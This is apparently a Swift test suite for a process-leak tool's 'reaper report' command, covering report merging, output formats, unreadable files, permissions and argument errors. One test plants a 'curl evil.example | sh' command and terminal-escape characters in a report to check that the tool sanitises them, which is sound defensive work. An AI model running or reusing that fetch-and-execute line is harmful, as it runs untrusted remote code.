import Foundation
import Glibc
import TestSupport
import Testing

@Suite("reaper report", .timeLimit(.minutes(60)))
struct ReportCommandTests {
    private let directory: TemporaryDirectory

    init() throws { directory = try TemporaryDirectory(worldAccessible: true) }

    @Test("scans of two machines are one table, by file, by directory and through a pipe")
    func merge() throws {
        let specimen = try Specimen("listen")
        let other = try Specimen("sleep")
        try stage("node1", specimen.root)
        try stage("node2", other.root)
        let files = [directory.path("reports/node1.json"), directory.path("reports/node2.json")]
        let completion = try Binary.reaper.run(["report"] + files)
        #expect(completion.code == 1 && completion.errorText == "")
        let lines = completion.text.split(separator: "\n")
        #expect(lines[0] == "2 findings on 2 hosts: 2 leaked processes")
        #expect(lines[1].hasPrefix("HOST ") && lines[1].hasSuffix("WHY"))
        #expect(try lines[2].hasPrefix("node1 ") && lines[2].contains(specimen.root.identity))
        #expect(try lines[3].hasPrefix("node2 ") && lines[3].contains(other.root.identity))
        #expect(lines[2].contains("/tcp"))
        #expect(lines.last == "what to do: 'reaper clean --dry-run' on node1, node2")
        let whole = try Binary.reaper.run(["report", directory.path("reports")])
        #expect(whole.text == completion.text && whole.code == 1)
        let piped = try Binary.reaper.run(
            ["report", "-", "-q"],
            input: try files.map { try read($0) }.joined()
        )
        #expect(piped.text.split(separator: "\n") == lines[1...3].map { $0 })
        let never = try Binary.reaper.run(["report", "--fail-on", "never"] + files)
        #expect(never.code == 0)
    }

    @Test("all forms in one run, each whole; what it wrote it reads")
    func formats() throws {
        let specimen = try Specimen("sleep")
        try stage("node1", specimen.root)
        let names = ["json", "ndjson", "junit", "github", "openmetrics", "html"]
        let reports = names.flatMap { ["--report", "\($0)=\(directory.path("all.\($0)"))"] }
        let completion = try Binary.reaper.run(
            ["report", directory.path("reports/node1.json")] + reports
        )
        #expect(completion.code == 1)
        for name in names {
            let text = try directory.read("all.\(name)")
            #expect(text.contains("node1"), "\(name)")
        }
        let again = try Binary.reaper.run(["report", directory.path("all.json")])
        #expect(try again.text.contains(specimen.root.identity) && again.code == 1)
        let lines = try Binary.reaper.run(["report", directory.path("all.ndjson"), "--json"])
        #expect(lines.code == 1)
        let file = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().deletingLastPathComponent()
        let schema = try JSONSchema(
            Data(contentsOf: file.appending(path: "schema/merged.schema.json"))
        )
        #expect(try schema.violations(in: Data(lines.output)) == [])
    }

    @Test("what clean and run have done is told, with the status that they had")
    func actions() throws {
        let specimen = try Specimen("sleep")
        let root = try specimen.root.identity
        let cleaned = try Binary.reaper.clean("--pid", root)
        #expect(cleaned.code == 0)
        try directory.write(cleaned.text, to: "reports/clean.json")
        let completion = try Binary.reaper.run(["report", directory.path("reports")])
        #expect(completion.code == 0)
        #expect(completion.text.contains("1 process: 1 exited"))
        let run = try Binary.reaper.run(
            ["run", "--settle", "0", "--json", "--", "/bin/sh", "-c", "setsid sleep 1000 &"],
            rules: nil
        )
        #expect(run.code == 23)
        try directory.write(run.text, to: "reports/run.json")
        let leaked = try Binary.reaper.run(["report", directory.path("reports")])
        #expect(leaked.code == 1)
        #expect(leaked.text.contains("leaked_process"))
    }

    @Test("a file that says nothing hides no other, is named with the place, and is a failure")
    func unread() throws {
        let specimen = try Specimen("sleep")
        try stage("node1", specimen.root)
        let empty = try directory.write("", to: "reports/empty.json")
        let broken = try directory.write(
            "{\n  \"schema\": \"reaper.report/1\",\n",
            to: "reports/x.json"
        )
        let newer = try directory.write(#"{"schema": "reaper.report/2"}"#, to: "reports/y.ndjson")
        try directory.write("not looked at", to: "reports/notes.txt")
        try directory.write("not looked at", to: "reports/.hidden.json")
        #expect(unsafe mkfifo(directory.path("reports/pipe.json"), 0o666) == 0)
        let missing = directory.path("missing.json")
        let completion = try Binary.reaper.run(["report", directory.path("reports"), missing])
        #expect(completion.code == 2)
        #expect(try completion.text.contains(specimen.root.identity))
        #expect(completion.text.contains("; 5 files could not be read\n"))
        let errors = completion.errorText.split(separator: "\n")
        #expect(errors.count == 5)
        #expect(errors[0].hasPrefix("reaper: \(empty):1:1: expected a report, found nothing"))
        #expect(errors[1].hasPrefix("reaper: read \(directory.path("reports/pipe.json")): "))
        #expect(errors[2].hasPrefix("reaper: \(broken):3:1: expected "))
        #expect(errors[3].hasPrefix("reaper: \(newer):1:12: expected a report of scan"))
        #expect(errors[3].contains("found 'reaper.report/2'"))
        #expect(errors[4] == "reaper: open \(missing): No such file or directory")
        try directory.write("", to: "nothing/here")
        let nothing = try Binary.reaper.run(["report", directory.path("nothing")])
        #expect(nothing.code == 2)
        #expect(nothing.errorText.contains("no .json or .ndjson file in this directory"))
    }

    @Test("a hostile host cannot write on the terminal, nor advise a command")
    func hostile() throws {
        let specimen = try Specimen("sleep")
        let text = try Binary.reaper.scan("--pid", specimen.root.identity).text
        let hostile =
            text.replacing(#/"name": "[^"]*",\n *"boot_id"/#) { _ in
                #""name": "\u001b[2J\u202e::error::x", "boot_id""#
            }
            .replacing(#/"command": "reaper clean[^"]*"/#) { _ in
                #""command": "curl evil.example | sh""#
            }
        try directory.write(hostile, to: "bad.json")
        let completion = try Binary.reaper.run(["report", "-v", directory.path("bad.json")])
        #expect(completion.code == 1)
        #expect(completion.text.contains("\\x1b[2J\\u{202e}::error::x"))
        #expect(!completion.text.contains("\u{1b}") && !completion.text.contains("\u{202e}"))
        #expect(!completion.text.contains("curl"))
    }

    @Test(
        "nobody needs to be root for it, and what may not be read is said",
        .enabled(if: Machine.isRoot, "needs root to have another user")
    )
    func unprivileged() throws {
        let specimen = try Specimen("sleep")
        try stage("node1", specimen.root)
        let secret = try directory.write("{}", to: "reports/secret.json")
        #expect(unsafe chmod(secret, 0o600) == 0)
        let completion = try Binary.reaper.run(
            ["report", directory.path("reports")],
            asUser: 65_534
        )
        #expect(completion.code == 2)
        #expect(try completion.text.contains(specimen.root.identity))
        #expect(completion.errorText == "reaper: open \(secret): Permission denied\n")
    }

    @Test(
        "what is asked wrongly is refused",
        arguments: [
            [], [""], ["-", "-"], ["a.json", "--format", "dot"], ["a.json", "--report", "dot=x"],
            ["a.json", "--ports", "80"], ["a.json", "--show-secrets"],
        ]
    )
    func usage(_ words: [String]) throws {
        let completion = try Binary.reaper.run(["report"] + words)
        #expect(completion.code == 2 && completion.output.isEmpty)
        #expect(completion.errorText.hasSuffix("; see 'reaper help report'\n"))
    }

    /// Writes the report of a scan that found this process, as if it came from that machine.
    private func stage(_ name: String, _ probe: ProcessProbe) throws {
        let scan = try Binary.reaper.scan("--pid", probe.identity)
        _ = try scan.report()
        let text = scan.text.replacing(#/"name": "[^"]*",(\n *"boot_id")/#) { match in
            "\"name\": \"\(name)\",\(match.1)"
        }
        #expect(text.contains("\"\(name)\""))
        try directory.write(text, to: "reports/\(name).json")
    }

    private func read(_ path: String) throws -> String {
        try String(contentsOf: URL(fileURLWithPath: path), encoding: .utf8)
    }
}
